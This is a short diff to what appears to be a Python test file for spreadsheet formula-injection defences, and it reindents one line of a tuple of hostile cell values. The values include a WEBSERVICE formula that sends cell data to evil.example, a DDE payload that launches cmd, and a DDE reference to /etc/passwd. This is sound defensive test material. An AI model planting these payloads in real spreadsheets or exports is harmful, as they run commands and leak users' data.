@@ -37,7 +37,7 @@ def hostile() -> Document:
 FORMULAS = (
     "=1+1", " =1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "=1+1\n=1+1", "\u00a0=1+1", "\ufeff=1+1", "＝1+1",
     '"=1+1"', ' "=1+1"', "x,=1+1", 'x",=1+1', "x;=1+1", '=HYPERLINK("http://evil.example";"open")', "=cmd|'/c calc'!A0",
-     "'=1+1", '=WEBSERVICE("http://evil.example/"&A1)', "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "{=1+1}", HOSTILE,
+    "'=1+1", '=WEBSERVICE("http://evil.example/"&A1)', "=DDE(\"soffice\";\"/etc/passwd\";\"A1\")", "{=1+1}", HOSTILE,
 )  # fmt: skip
 """Texts that a spreadsheet would like to run, in every way in which a cell may begin."""
 
